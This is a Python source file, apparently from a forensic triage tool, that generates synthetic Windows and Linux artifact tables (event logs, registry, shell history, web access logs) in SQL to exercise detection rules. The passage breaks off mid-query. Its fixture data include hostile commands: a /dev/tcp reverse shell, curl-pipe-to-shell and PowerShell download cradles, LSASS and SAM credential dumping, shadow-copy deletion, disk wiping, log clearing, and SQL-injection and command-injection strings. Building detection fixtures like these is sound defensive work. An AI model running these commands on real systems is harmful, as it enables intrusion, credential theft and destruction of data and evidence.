"""Case tables derived from the given tables, in SQL that Spark and DuckDB both run.

The given tables are general business and event data. Each adapter projects all rows of
one of them into the shape of a case table: hosts, times and keys come from the data, and
names, paths and messages are composed from the row's numbers, so that some rows meet a
rule and most do not. The work of every check grows with the given tables.
"""

from __future__ import annotations

import tempfile
import uuid

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F
from pyspark.sql import types as T

from triagelake.session import apply_runtime_conf
from triagelake.tables import SCHEMAS, CaseTables, conform

GIVEN = [
    "region", "nation", "customer", "supplier", "part", "orders", "lineitem", "events", "documents", "embeddings",
    "pages", "benchmark", "labels", "conversations",
]


def q(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def pick(index: str, items: list[str]) -> str:
    """One of the literals by index; {u}, {e} and the like stand for number columns."""
    arms = []
    for i, item in enumerate(items):
        arms.append(f"WHEN {i} THEN {lit(item)}")
    return f"CASE ({index}) % {len(items)} {' '.join(arms)} END"


_VARS = {"{u}": "user_id", "{e}": "event_id", "{m}": "event_id % 7", "{d}": "event_id % 10", "{n}": "user_id % 25", "{h}": "user_id % 6", "{b}": "event_id % 40"}


def lit(item: str | None) -> str:
    if item is None:
        return "CAST(NULL AS STRING)"
    out, rest = [], item
    while rest:
        at = min([rest.find(v) for v in _VARS if v in rest], default=-1)
        if at < 0:
            out.append(q(rest))
            break
        if at:
            out.append(q(rest[:at]))
        out.append(f"CAST({_VARS[rest[at:at + 3]]} AS STRING)")
        rest = rest[at + 3:]
    return "(" + " || ".join(out or ["''"]) + ")"


H = "'host-' || CAST(user_id % 6 AS STRING) AS host_id"
SRC = lambda name: f"('/evidence/' || CAST(user_id % 6 AS STRING) || '/{name}') AS source_file"
WHEN = lambda a, b: f"CASE WHEN {a} THEN {b} END"
NULL_TS = "CASE WHEN event_id % 31 = 7 THEN CAST(NULL AS TIMESTAMP) ELSE ts END"


def _data(**fields: str) -> str:
    return " || ".join(f"'<Data Name=\"{k}\">' || COALESCE({v}, '') || '</Data>'" for k, v in fields.items())


WIN_PATHS = [
    r"C:\Windows\System32\svchost.exe", r"C:\Users\user{n}\AppData\Local\Temp\drop{d}.exe", r"C:\Users\Public\tool{m}.exe",
    r"C:\Program Files\App{m}\app.exe", r"C:\Users\user{n}\Downloads\setup{d}.exe", r"C:\ProgramData\svc{m}\agent.exe",
    r"C:\PerfLogs\x{d}.dll", r"C:\Windows\SysWOW64\cmd.exe", r"C:\$Recycle.Bin\S-1-5\old{d}.exe", r"C:\Users\user{n}\AppData\Roaming\up{m}.exe",
    r"C:\Tools\readme{d}.txt",
]
COMMANDS = [
    "net group /domain", "net user bob /domain", "nltest /dclist:corp", "whoami /all", "arp -a", "systeminfo",
    "powershell -nop -w hidden -enc SQBFAFgA", "vssadmin delete shadows /all", "wbadmin delete catalog -quiet",
    r"rundll32 C:\Windows\System32\comsvcs.dll, MiniDump 612 C:\t\o.dmp full", r"reg save HKLM\SAM C:\t\s.hiv", "ntdsutil ac i ntds ifm",
    r"cmd.exe /Q /c dir 1> \\127.0.0.1\ADMIN$\__out 2>&1", "cmd.exe /q /c echo {m} 2>&1", "cmd.exe /q /c echo plain",
    r"wmic /node:srv{m} process call create calc.exe", r"copy a.exe \\srv{m}\c$\temp", "mmc20.application run",
    "notepad.exe file{d}.txt &amp;&amp; dir", "cipher /w:C", "diskpart clean", "explorer.exe", "bcdedit /set recoveryenabled no",
    "dsquery user -limit 0", "route print", "sdelete -p 3 x", "format d: /y",
]
EVENT_CODES = [4625, 4624, 4688, 4625, 4104, 1, 4769, 7045, 4625, 4698, 4768, 1102, 4625, 104, 4697, 4624, 4688, 4769, 5985, 400]

ADAPTERS: dict[str, str] = {}


def adapter(name: str, sql: str) -> None:
    ADAPTERS[name] = " ".join(sql.split("\n"))


adapter("hosts", "SELECT DISTINCT 'host-' || CAST(user_id % 6 AS STRING) AS host_id, 'Host ' || CAST(user_id % 6 AS STRING) AS display_name, 'raw' AS kind FROM events")

adapter("events", f"""
SELECT {H}, event_id AS record_number, ts AS written_at,
 {pick('event_id * 7 + user_id', [str(c) for c in EVENT_CODES])} AS event_id, CAST(event_id % 6 AS INT) AS level,
 {pick('event_id * 7 + user_id', ['Security', 'Security', 'Security', 'Security', 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-Sysmon/Operational', 'Security', 'System', 'Security', 'Security', 'Security', 'Security', 'Security', 'System', 'Security', 'Security', 'Security', 'Security', 'Microsoft-Windows-WinRM/Operational', 'Windows PowerShell'])} AS channel,
 {pick('event_id * 3 + user_id', ['Microsoft-Windows-Security-Auditing', 'Service Control Manager', 'Microsoft-Windows-WinRM', ''])} AS provider,
 'WS-' || CAST(user_id % 8 AS STRING) AS computer, {SRC('Security.evtx')},
 {_data(
     TargetUserName=pick('event_id * 5 + user_id * 3', ['user{n}', 'CORP_user{n}', 'svc{m}$', 'Administrator', 'user{m}', '', 'o&apos;neil']),
     TargetDomainName=pick('user_id', ['CORP', '', 'LAB']),
     IpAddress=pick('user_id * 3 + event_id % 4', ['10.0.0.{m}', '203.0.113.{h}', '-', '192.168.1.{m}', '198.51.100.{h}', '::1', '172.20.1.{h}', '172.40.1.{h}', 'fe80::1']),
     WorkstationName=pick('event_id % 9 + user_id', ['-', 'WS-{m}', '', 'LAPTOP-{h}', '-']),
     LogonType=pick('event_id * 2 + user_id', ['2', '3', '10', '7', '5', '8']),
     NewProcessName=pick('event_id * 3 + user_id', [r'C:\Windows\System32\cmd.exe', r'C:\Windows\powershell.exe', r'C:\Program Files\AnyDesk\AnyDesk.exe', r'C:\Users\u\Downloads\ngrok.exe', r'C:\Windows\notepad.exe', '']),
     ParentProcessName=pick('event_id * 11 + user_id', [r'C:\Office\WINWORD.EXE', r'C:\Windows\explorer.exe', r'C:\Apps\chrome.exe', r'C:\Windows\wsmprovhost.exe', r'C:\Windows\wbem\WmiPrvSE.exe']),
     Image=pick('event_id * 3 + user_id * 2', [r'C:\Windows\System32\rundll32.exe', r'C:\Tools\TeamViewer.exe', r'C:\Windows\mshta.exe', '']),
     ParentImage=pick('event_id * 11 + user_id', [r'C:\Office\EXCEL.EXE', r'C:\Windows\explorer.exe', r'C:\Apps\firefox.exe']),
     CommandLine=pick('event_id * 13 + user_id * 5', COMMANDS + ['']),
     ServiceName=pick('event_id * 3 + user_id', ['svc{b}', 'MSSQL{b}', 'HTTP{b}', 'krbtgt', 'PSEXESVC', '-']),
     ImagePath=pick('event_id * 11 + user_id', WIN_PATHS + [r'%COMSPEC% /Q /c echo x 2>&1', 'powershell -enc AAA', '']),
     ServiceFileName=pick('event_id + user_id', [r'C:\Windows\BTOBTO.exe', r'C:\Windows\System32\spool.exe']),
     StartType=pick('event_id', ['auto', '']),
     TaskName=pick('event_id * 5 + user_id', [r'\Microsoft\Update{m}', r'\Evil{m}', '']),
     TaskContent=pick('event_id * 7 + user_id * 3', ['run notepad', 'powershell -enc AAAA', r'cmd.exe /c C:\Users\x\AppData\y.exe', 'rundll32 x.dll']),
     SubjectUserName=pick('user_id * 3', ['admin{m}', '']),
     ScriptBlockText=pick('event_id * 3 + user_id', ['Get-ChildItem', 'IEX (New-Object Net.WebClient).DownloadString(1)', '-nop -w hidden run', 'Invoke-WebRequest x', '-nop -ep bypass iex( x )', '']),
     TicketEncryptionType=pick('event_id * 3 + user_id', ['0x17', '0x12', '0x18', '0x17']),
     PreAuthType=pick('event_id + user_id', ['0', '2']),
     Note=pick('event_id * 3 + user_id * 7', ['seen evil{m}.example.com here', 'addr 10.0.0.{m}5 near', 'plain', 'WSMan session', 'ip 203.0.113.{h}:445 ok', 'http://bad{m}.test/a?x=1&amp;y=2']),
 )} AS payload_xml
FROM events""")

REG_KEYS = [
    r"Software\Microsoft\Windows\CurrentVersion\Run", r"Software\Microsoft\Windows\CurrentVersion\RunOnce", r"ControlSet001\Services\svc{m}\Parameters",
    r"CurrentControlSet\Enum\USBSTOR\Disk&Ven_A{h}\SER{m}\x\y", r"Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU",
    r"Software\Microsoft\Windows\CurrentVersion\Explorer\TypedPaths", r"Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs",
    r"Software\Microsoft\Windows\CurrentVersion\Explorer\ComDlg32\OpenSavePidlMRU", r"Software\Microsoft\Windows\CurrentVersion\Explorer\UserAssist\{G}\Count",
    r"Software\Vendor\Key{d}", r"ControlSet001\Control\ComputerName\ComputerName", r"ControlSet001\Services\Tcpip\Parameters\Interfaces\if{m}",
    r"Microsoft\Windows NT\CurrentVersion", r"Root\InventoryApplicationFile\app{b}", r"Root\File\vol{h}\{b}", r"ControlSet001\Services\Tcpip\Parameters",
]
adapter("registry", f"""
SELECT {H}, {pick('event_id', ['NTUSER', 'SOFTWARE', 'SYSTEM', 'SYSTEM', 'NTUSER', 'NTUSER', 'NTUSER', 'NTUSER', 'NTUSER', 'SOFTWARE', 'SYSTEM', 'SYSTEM', 'SOFTWARE', 'AMCACHE', 'AMCACHE', 'SYSTEM'])} AS hive,
 {pick('event_id', REG_KEYS)} AS path,
 CASE event_id % 16
  WHEN 2 THEN {pick('user_id + event_id', ['ImagePath', 'ServiceDll', 'Start'])}
  WHEN 3 THEN {pick('user_id + event_id', ['FriendlyName', 'DeviceDesc', 'Other'])}
  WHEN 8 THEN {pick('user_id', [r'P:\Hfref\k\Qbjaybnqf\rivy{m}.rkr', r'P:\Jvaqbjf\pnyp.rkr', 'Version', r'P:\Grzc\n{m}.rkr'])}
  WHEN 10 THEN 'ComputerName'
  WHEN 11 THEN {pick('user_id + event_id', ['IPAddress', 'DhcpIPAddress', 'SubnetMask'])}
  WHEN 12 THEN {pick('user_id + event_id % 5', ['ProductName', 'DisplayVersion', 'CurrentBuild', 'UBR', 'InstallDate'])}
  WHEN 13 THEN {pick('user_id + event_id', ['LowerCaseLongPath', 'FileId', 'Size', 'LinkDate', 'Publisher'])}
  WHEN 14 THEN {pick('user_id + event_id', ['15', '101', '6'])}
  WHEN 15 THEN {pick('user_id + event_id', ['Domain', 'NV Domain'])}
  ELSE {pick('event_id * 3 + user_id', ['Updater{d}', 'a', '', 'MRUListEx', 'entry{b}'])} END AS name,
 'REG_SZ' AS type,
 CASE event_id % 16
  WHEN 10 THEN 'PC-{{}}' || CAST(user_id % 6 AS STRING)
  WHEN 11 THEN {pick('user_id', ['10.1.{h}.{m}', '0.0.0.0', '10.1.{h}.{m} 10.2.{h}.1'])}
  WHEN 12 THEN {pick('event_id * 3', ['19045', 'Windows 10 Pro', '22H2', '1700000000'])}
  WHEN 13 THEN {pick('user_id + event_id', [r'c:\users\u{n}\downloads\app{b}.exe', '0000aaaabbbbccccddddeeeeffff0000111122223333', '0x1F40', '01/02/2024 03:04:05', 'Vendor {m}'])}
  WHEN 14 THEN {pick('user_id + event_id', [r'C:\temp\old{b}.exe', '0000ffffbbbbccccddddeeeeffff00001111222233{e}', '4096'])}
  WHEN 15 THEN 'corp{{}}.local'
  ELSE {pick('event_id * 7 + user_id', WIN_PATHS + ['powershell -enc AAAA iex (x)', r'\\srv{m}\share', r'cmd.exe /c start\1', r'mshta http://x/a.hta\1', 'notes{d}.docx', 'invoice{d}.pdf.lnk', r'D:\evil{m}.iso'])} END AS data,
 {NULL_TS} AS last_written, {SRC('NTUSER.DAT')}
FROM events""".replace("{{}}", ""))

adapter("prefetch", f"""
SELECT {H}, {pick('event_id * 3 + user_id', ['PSEXEC.EXE', 'SVCHOST.EXE', 'powershell.exe', 'TOOL{m}.EXE', 'WMIC.EXE', 'CHROME.EXE'])} AS executable_name,
 {pick('event_id * 5 + user_id', WIN_PATHS + [None])} AS executable_path, event_id % 9 AS run_count,
 {WHEN('event_id % 5 <> 0', 'ts')} AS run1, {WHEN('event_id % 3 = 0', "ts - INTERVAL 1 HOUR")} AS run2, {SRC('X.pf')}
FROM events""")
adapter("amcache", f"""
SELECT {H}, 'app' || CAST(event_id % 50 AS STRING) || '.exe' AS name, {pick('event_id * 5 + user_id', WIN_PATHS + [None])} AS full_path,
 {WHEN('event_id % 4 <> 0', "'aaaabbbbccccddddeeeeffff0000111122223' || CAST(100 + event_id % 60 AS STRING)")} AS sha1, event_id * 10 AS size, {NULL_TS} AS registered_at, 'legacyFile' AS source, {SRC('Amcache.hve')}
FROM events""")
adapter("shimcache", f"SELECT {H}, {pick('event_id * 3 + user_id', WIN_PATHS)} AS path, {NULL_TS} AS last_modified, CAST(event_id AS BIGINT) AS insertion_order, 'windows10' AS version, {SRC('SYSTEM')} FROM events")
adapter("lnk", f"""
SELECT {H}, {pick('event_id * 3 + user_id', [r'C:\Users\u{n}\Recent\doc{d}.lnk', r'C:\Users\u{n}\Desktop\Tool{m}.LNK', '/mnt/odd{m}'])} AS source_file,
 {pick('event_id * 5 + user_id', WIN_PATHS + [None])} AS local_path, {pick('event_id', [r'\\srv\x', None])} AS network_path,
 {pick('event_id * 7 + user_id', [None, '', '/safe flag', '-enc AAAA', 'http://x', None, None])} AS arguments,
 event_id % 1000 AS target_size, {WHEN('event_id % 3 = 0', 'ts')} AS target_modified, {WHEN('event_id % 4 = 0', 'ts + INTERVAL 2 HOUR')} AS target_accessed, {WHEN('event_id % 5 = 0', 'ts - INTERVAL 2 HOUR')} AS target_created,
 {pick('event_id', ['mach{h}', None])} AS machine_identifier
FROM events""")
adapter("jumplist", f"""
SELECT {H}, {pick('event_id + user_id', ['EBBC7BD0EFF5B9E8', '9b9cdc69c1c24e2b', 'unknownid'])} AS app_id, {pick('event_id', ['App{m}', None])} AS application, 'automatic' AS list_type,
 {pick('event_id * 5 + user_id', WIN_PATHS + [None, ''])} AS target_path, {NULL_TS} AS last_accessed, 'h{{}}' AS hostname, {SRC('x.automaticDestinations-ms')}
FROM events""".replace("{{}}", ""))
adapter("usn", f"""
SELECT {H}, event_id * 64 AS usn, {NULL_TS} AS timestamp,
 {pick('event_id * 4 + user_id', ['payload{d}.exe', 'notes{d}.txt', 'tool{m}.ps1', 'data{e}.locked', 'image{d}.png', 'x{e}.qqz'])} AS file_name, event_id % 17 = 0 AS is_directory,
 event_id % 101 AS mft_entry, 1 AS mft_sequence, 5 AS parent_mft_entry,
 CAST({pick('event_id * 7 + user_id', ['256', '512', '4096', '8192', '2147484160', '258', '1', '768'])} AS BIGINT) AS reason_raw, 32 AS file_attributes, {SRC('$J')}
FROM events""")
adapter("mft", f"""
SELECT {H}, event_id AS record_number, 1 AS sequence, event_id % 4 <> 0 AS in_use, event_id % 19 = 0 AS is_directory,
 {pick('event_id * 3 + user_id', ['drop{d}.exe', 'report{d}.docx', 'run{m}.ps1', None, 'lib{m}.dll'])} AS file_name,
 {pick('event_id * 3 + user_id', [r'\Users\u{n}\Downloads\drop{d}.exe', r'\Users\u{n}\report{d}.docx', r'\Temp\run{m}.ps1', None, r'\Windows\lib{m}.dll'])} AS full_path,
 5 AS parent_record, {pick('user_id', ['$MFT', 'D'])} AS volume,
 CASE WHEN event_id % 3 = 0 THEN 133000000000000000 + event_id * 10000000 WHEN event_id % 3 = 1 THEN 133000000000000000 + event_id * 10000000 + 5 ELSE 0 END AS si_created_raw,
 133000000000000000 + event_id * 10000000 AS si_modified_raw, CASE WHEN event_id % 5 = 0 THEN 0 ELSE 133100000000000000 END AS si_changed_raw, 0 AS si_accessed_raw,
 133000000000000000 + event_id * 10000000 + (event_id % 4) * 500000000000 AS fn_created_raw, 0 AS fn_modified_raw, 0 AS fn_changed_raw, 0 AS fn_accessed_raw,
 event_id % 5000 AS size, {SRC('$MFT')}
FROM events""")
adapter("srum", f"""
SELECT {H}, {pick('event_id + user_id', ['networkData', 'appResourceUsage', 'networkConnectivity'])} AS kind, {NULL_TS} AS timestamp,
 {pick('event_id * 5 + user_id * 2', WIN_PATHS + [r'C:\users\PUBLIC\TOOL3.exe', None])} AS application, 'S-1-5' AS user_sid,
 CAST(event_id * 997 % 3000000 AS BIGINT) AS bytes_sent, {WHEN('event_id % 3 > 0', 'CAST(event_id * 31 % 70000 AS BIGINT)')} AS bytes_received,
 CAST(event_id * 7 % 9000 AS BIGINT) AS bytes_read, CAST(event_id * 131 AS BIGINT) AS bytes_written, CAST(event_id * 3 % 9000 AS BIGINT) AS connected_seconds, {SRC('SRUDB.dat')}
FROM events""")
adapter("recycle_bin", f"""
SELECT {H}, {pick('event_id * 3 + user_id', WIN_PATHS + ['/home/x/run.js', r'D:\docs\plan{d}.docx'])} AS original_path, {NULL_TS} AS deleted_at, event_id AS size_bytes, '$R1' AS recycled_name, 'S-1-5-21' AS sid, {SRC('$I1')}
FROM events""")
adapter("wmi", f"""
SELECT {H}, {pick('event_id + user_id', ['binding', 'binding', 'scriptConsumer'])} AS kind, {pick('event_id * 3', ['Cons{d}', None, 'Upd{m}'])} AS consumer_name,
 {pick('event_id * 5 + user_id', ['ActiveScriptEventConsumer', 'CommandLineEventConsumer', None])} AS consumer_type, {pick('event_id', ['Filt{m}', None])} AS filter_name,
 {pick('event_id', ['SELECT * FROM x', '', None])} AS query, {pick('event_id * 7 + user_id', ['powershell -enc x', 'notepad', None, r'C:\Temp\a.exe'])} AS command,
 {pick('event_id', ['VBScript', None])} AS script_engine, 'body' AS script_text, event_id % 5 = 0 AS is_common_benign, {SRC('OBJECTS.DATA')}
FROM events""")

adapter("files", """
SELECT 'host-' || CAST(l_orderkey % 6 AS STRING) AS host_id, l_orderkey * 8 + l_linenumber AS id, l_partkey AS meta_addr, CAST(l_suppkey % 3 AS BIGINT) AS fs_id,
 CASE (l_orderkey + l_linenumber) % 14 WHEN 0 THEN 'run' || CAST(l_partkey % 90 AS STRING) || '.exe' WHEN 1 THEN 'doc' || CAST(l_partkey AS STRING) || '.docx' WHEN 2 THEN 'AnyDesk.exe'
  WHEN 3 THEN 'data' || CAST(l_partkey AS STRING) || '.locked' WHEN 4 THEN 'README_' || CAST(l_partkey % 5 AS STRING) || '_decrypt.txt' WHEN 5 THEN 'x' || CAST(l_orderkey AS STRING) || '.zzq' WHEN 6 THEN 'evil7.example.com.txt'
  WHEN 7 THEN 'how_to_decrypt' || CAST(l_suppkey % 4 AS STRING) || '.html' WHEN 8 THEN 'task' || CAST(l_suppkey AS STRING) WHEN 9 THEN 'img' || CAST(l_partkey AS STRING) || '.png' WHEN 10 THEN 'auth.log' WHEN 11 THEN 'slack' || CAST(l_partkey AS STRING) || '.txt-slack'
  WHEN 12 THEN 'ngrok.exe' ELSE 'mimikatz' || CAST(l_partkey % 7 AS STRING) || '.log' END AS name,
 CASE (l_suppkey + l_linenumber) % 9 WHEN 0 THEN '/ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/' WHEN 1 THEN '/Windows/System32/Tasks/' WHEN 2 THEN '/Users/u' || CAST(l_suppkey % 12 AS STRING) || '/Documents' WHEN 3 THEN '/var/log/'
  WHEN 4 THEN '/etc/cron.d/' WHEN 5 THEN '/home/u/.ssh/' WHEN 6 THEN 'C:\\Users\\u\\Downloads\\' WHEN 7 THEN '/var/log/nginx/' ELSE '/opt/app' || CAST(l_partkey % 30 AS STRING) || '/' END AS parent_path,
 CAST(l_quantity * 100 AS BIGINT) AS size, l_linenumber = 7 AS is_directory, l_returnflag = 'R' AS is_deleted,
 l_shipdate AS modified, CASE WHEN l_linenumber % 2 = 0 THEN l_shipdate + INTERVAL 1 DAY END AS accessed, CASE WHEN l_linenumber % 3 = 0 THEN l_shipdate + INTERVAL 2 DAY END AS changed, CASE WHEN l_linenumber % 4 = 1 THEN l_shipdate - INTERVAL 3 DAY END AS created
FROM lineitem""".replace("\\\\", "\\"))
adapter("volumes", "SELECT DISTINCT 'host-' || CAST(user_id % 6 AS STRING) AS host_id, CAST(event_id % 3 AS BIGINT) AS id, CASE WHEN user_id % 6 = 0 THEN 'NTFS' WHEN user_id % 6 = 1 THEN 'Ext4' WHEN user_id % 6 = 2 THEN 'APFS' ELSE 'FAT32' END AS fs_type, CAST((event_id % 3) * 1048576 AS BIGINT) AS offset_bytes, CAST(1000 AS BIGINT) AS size_bytes FROM events")
URLS = [
    "https://pastebin.com/raw/{m}", "http://198.51.100.{h}/a{d}.exe", "https://www.example.org/page{d}", "https://transfer.sh/x/mimikatz{m}.zip",
    "http://user@files.mega.nz:8080/p?q={d}", "https://intranet/ok", "notaurl{d}", "https://cdn.example.net/rclone-{m}.tar.gz", "http://10.0.0.{m}:81/", "https://EVIL{m}.example.com/setup.msi",
]
adapter("browser_history", f"""
SELECT {H}, {pick('event_id', ['chrome', 'firefox', 'edge', 'unknown'])} AS browser, {pick('event_id + user_id', ['visit', 'visit', 'download'])} AS kind,
 {pick('event_id * 3 + user_id', URLS)} AS url, {pick('event_id', ['Title {m}', None, ''])} AS title, {NULL_TS} AS timestamp, event_id % 9 AS visit_count,
 {pick('event_id * 7 + user_id', [None, r'C:\Users\u\Downloads\Setup{m}.EXE', '/Users/x/Downloads/archive{d}.zip', '/tmp/readme.txt', ''])} AS target_path, {SRC('History')}
FROM events""")
adapter("yara_matches", f"SELECT {H}, {pick('event_id * 3 + user_id', ['rule_a', 'rule_b', 'rule_{m}'])} AS rule, '/f/' || CAST(event_id AS STRING) AS path, event_id AS file_id, 10 AS file_size FROM events")
adapter("iocs", f"""
SELECT DISTINCT kind, value, note, pos FROM (SELECT {pick('event_id', ['ip', 'domain', 'url', 'hash', 'ip', 'domain'])} AS kind,
 {pick('event_id', ['10.0.0.{m}', 'evil{m}.example.com', 'http://bad{m}.test/a?x=1&y=2', 'AAAABBBBCCCCDDDDEEEEFFFF0000111122223', '203.0.113.{h}', 'mimikatz{m}'])} || CASE WHEN event_id % 6 = 3 THEN CAST(100 + event_id % 60 AS STRING) ELSE '' END AS value,
 'n' AS note, event_id % 42 AS pos FROM events) z""")
adapter("bad_hashes", "SELECT DISTINCT ' AAAABBBBCCCCDDDDEEEEFFFF0000111122223' || CAST(100 + event_id % 13 AS STRING) || ' ' AS value FROM events")

MESSAGES = [
    "Accepted password for root from 203.0.113.{h} port 22 ssh2", "Failed password for invalid user admin{m} from 198.51.100.{h} port 4{d} ssh2", "Failed password for user{n} from 203.0.113.{h} port 51 ssh2",
    "Invalid user guest{d} from 198.51.100.{h}", "Accepted publickey for user{n} from 10.0.0.{m} port 40 ssh2", "pam_unix(sshd:session): session opened for user user{n}(uid=1000) by (uid=0)",
]
adapter("auth_log", f"""
SELECT {H}, {NULL_TS} AS timestamp, 'srv' AS host, {pick('event_id * 5 + user_id', ['sshd', 'sshd', 'sshd', 'sudo', 'useradd', 'systemd'])} AS process, CAST(event_id % 900 AS BIGINT) AS pid,
 {pick('event_id * 5 + user_id', ['sshAccepted', 'sshFailed', 'sshInvalidUser', 'sudo', 'userAdded', 'sessionOpened'])} AS kind,
 {pick('event_id * 7 + user_id', ['root', 'user{n}', 'admin{m}', None, 'CORP\\user{m}'])} AS "user",
 CASE WHEN (event_id * 5 + user_id) % 6 < 3 THEN {pick('event_id + user_id', ['203.0.113.{h}', '198.51.100.{m}', '10.0.0.{m}', None])} END AS source_ip,
 22 AS port, {pick('event_id', ['password', 'publickey'])} AS method, {WHEN('(event_id * 5 + user_id) % 6 = 3', "'/bin/ls'")} AS command, {pick('event_id', MESSAGES)} AS message, {SRC('auth.log')}
FROM events""")
adapter("logins", f"""
SELECT {H}, {pick('event_id', ['userProcess', 'bootTime', 'deadProcess', 'other'])} AS type, CAST(event_id % 99 AS BIGINT) AS pid, 'pts/' || CAST(event_id % 4 AS STRING) AS line,
 {pick('event_id * 3', ['root', 'user{n}', 'reboot', 'alice'])} AS "user", {pick('event_id * 7 + user_id', ['203.0.113.{h}', '', '198.51.100.{m}'])} AS host, {NULL_TS} AS timestamp, event_id % 3 = 0 AS is_failed_login, {SRC('btmp')}
FROM events""")
SHELL = [
    "ls -la", "bash -i >& /dev/tcp/203.0.113.{h}/44", "curl http://x/{m} | sh", "curl http://x/readme", "history -c", "chmod +x /tmp/a{m}", "echo aGk= | base64 -d", "vssadmin delete shadows",
    "dd if=/dev/zero of=/dev/sda bs=512 count=1", "rm -rf /var/log/auth.log", "cat /var/log/syslog && rm x", "export HISTFILE=/dev/null", "rm ~/.zsh_history", "journalctl --vacuum-time=1s", "touch -t 202001010000 /tmp/f{m}",
    "systemctl stop auditd", "auditctl -e 0", "> /var/log/wtmp", "shred /var/log/secure; ls", "wipe /dev/sdb",
]
adapter("shell_history", f"""
SELECT {H}, {pick('user_id', ['root', 'user{m}'])} AS "user", {pick('event_id', ['bash', 'zsh'])} AS shell, {pick('event_id * 3 + user_id', SHELL)} AS command, {WHEN('event_id % 3 > 0', 'ts')} AS timestamp, event_id AS line_number, {SRC('.bash_history')}
FROM events""")
adapter("linux_persistence", f"""
SELECT {H}, {pick('event_id + user_id', ['cron', 'systemdService', 'systemdTimer', 'initScript', 'shellInit', 'xdgAutostart', 'ldPreload', 'atJob'])} AS kind,
 {pick('event_id', ['@reboot', '17 * * * *', None])} AS schedule, {pick('event_id', ['root', None])} AS "user",
 {pick('event_id * 5 + user_id', ['/usr/bin/ok{m} run', '/tmp/.x{m} -d', 'curl http://x | sh', '/usr/sbin/daemon', 'python3 -c 1', '  spaced cmd'])} AS command,
 {pick('event_id * 3', ['unit{m}.service', None])} AS unit_name, {SRC('crontab')}
FROM events""")
adapter("linux_users", f"""
SELECT DISTINCT {H}, CASE WHEN event_id % 40 = 0 THEN 'root' WHEN event_id % 40 = 1 THEN 'toor' WHEN event_id % 40 = 2 THEN 'www-data' WHEN event_id % 40 = 3 THEN 'svc' ELSE 'user' || CAST(event_id % 40 AS STRING) END AS name,
 CAST(CASE WHEN event_id % 40 < 2 THEN 0 WHEN event_id % 40 = 2 THEN 33 ELSE 990 + event_id % 40 END AS BIGINT) AS uid, CAST(100 AS BIGINT) AS gid, '/home' AS home,
 CASE WHEN event_id % 40 IN (2, 3) THEN '/usr/sbin/nologin' ELSE '/bin/bash' END AS shell FROM events""")
adapter("linux_groups", f"SELECT DISTINCT {H}, CASE event_id % 4 WHEN 0 THEN 'docker' WHEN 1 THEN 'sudo' WHEN 2 THEN 'lxd' ELSE 'users' END AS name, CAST(event_id % 4 AS BIGINT) AS gid, CASE event_id % 4 WHEN 0 THEN 'root,user' || CAST(user_id % 6 AS STRING) WHEN 1 THEN 'alice' WHEN 2 THEN 'root' ELSE 'bob' END AS members FROM events")
adapter("linux_host", f"SELECT DISTINCT {H}, 'Ubuntu 22.04' AS pretty_name, 'ubuntu' AS os_id, '22.04' AS version_id, 'lin{{}}' || CAST(user_id % 6 AS STRING) AS hostname, 'UTC' AS time_zone, '10.3.0.' || CAST(user_id % 6 AS STRING) AS ip_addresses FROM events WHERE user_id % 6 = 1".replace("{{}}", ""))
adapter("ssh_keys", f"""
SELECT {H}, {pick('event_id', ['authorized', 'authorized', 'knownHost'])} AS kind, {pick('event_id * 3 + user_id', ['root', 'user{n}', None])} AS "user", 'ssh-ed25519' AS algorithm, 'c' || CAST(event_id AS STRING) AS comment,
 {pick('event_id + user_id', ['no-pty', 'command="/bin/x",no-pty', 'from="1.2.3.4"', 'COMMAND="y"'])} AS options, {SRC('authorized_keys')} FROM events""")
adapter("sshd_settings", f"SELECT DISTINCT {H}, CASE event_id % 3 WHEN 0 THEN 'permitemptypasswords' WHEN 1 THEN 'permitrootlogin' ELSE 'port' END AS key, CASE WHEN event_id % 3 = 2 THEN '22' WHEN user_id % 6 IN (0, 1) THEN 'Yes' WHEN user_id % 6 = 2 THEN 'prohibit-password' ELSE 'no' END AS value, CAST(NULL AS STRING) AS source_file FROM events")
adapter("shadow", f"SELECT DISTINCT {H}, 'acct' || CAST(event_id % 30 AS STRING) AS account, CASE event_id % 5 WHEN 0 THEN 'empty' WHEN 1 THEN 'locked' ELSE 'usable' END AS status FROM events")
adapter("sudo_rules", f"SELECT {H}, {pick('event_id * 3 + user_id', ['user{n}', '%wheel', 'root', 'dev{m}'])} AS principal, {pick('event_id', ['ALL', None])} AS run_as, event_id % 2 = 0 AS no_passwd, {pick('event_id + user_id', ['ALL', 'all', '/usr/bin/ls'])} AS command, {SRC('sudoers')} FROM events")
WEB = [
    ("/index.html", None), ("/a/../../etc/passwd", None), ("/item", "id=1 union select 1"), ("/shell.php", "cmd=id"), ("/uploads/x{m}.php", None), ("/run", "x=;id"), ("/s", "q=<script>1"), ("/p{d}", None), ("/f", "u=http://a/$(x)"),
]
adapter("web_access", f"""
SELECT {H}, {NULL_TS} AS timestamp, {pick('event_id * 3 + user_id', ['203.0.113.{h}', '198.51.100.{m}', '10.0.0.{d}'])} AS client_ip, 'GET' AS method,
 {pick('event_id * 5 + user_id', [w[0] for w in WEB])} AS path, {pick('event_id * 5 + user_id', [w[1] for w in WEB])} AS query, 'HTTP/1.1' AS http_version,
 CAST({pick('event_id * 7 + user_id', ['200', '404', '301', '500', '404'])} AS INT) AS status, event_id * 3 AS bytes, {pick('event_id * 11 + user_id', ['Mozilla/5.0', 'sqlmap/1.{m}', 'Nikto 2', None, 'curl'])} AS user_agent, 'nginx' AS server, {SRC('access.log')}
FROM events""")
adapter("packages", f"""
SELECT {H}, {NULL_TS} AS timestamp, {pick('event_id * 3 + user_id', ['install', 'remove', 'upgrade', 'purge', 'reinstall'])} AS action, {pick('event_id * 7 + user_id', ['nmap', 'gcc', 'vim', 'Hydra', 'lib{d}'])} AS package, {pick('event_id', ['1.{m}', None])} AS version, 'apt' AS manager, {SRC('history.log')}
FROM events""")
adapter("journald", f"""
SELECT {H}, {NULL_TS} AS timestamp, {pick('event_id * 3 + user_id', MESSAGES + ['pam_unix(sudo:auth): authentication failure; user=u{m}', 'journalctl --rotate run', 'Started thing{d}', 'systemctl stop rsyslog'])} AS message, CAST(event_id % 8 AS INT) AS priority,
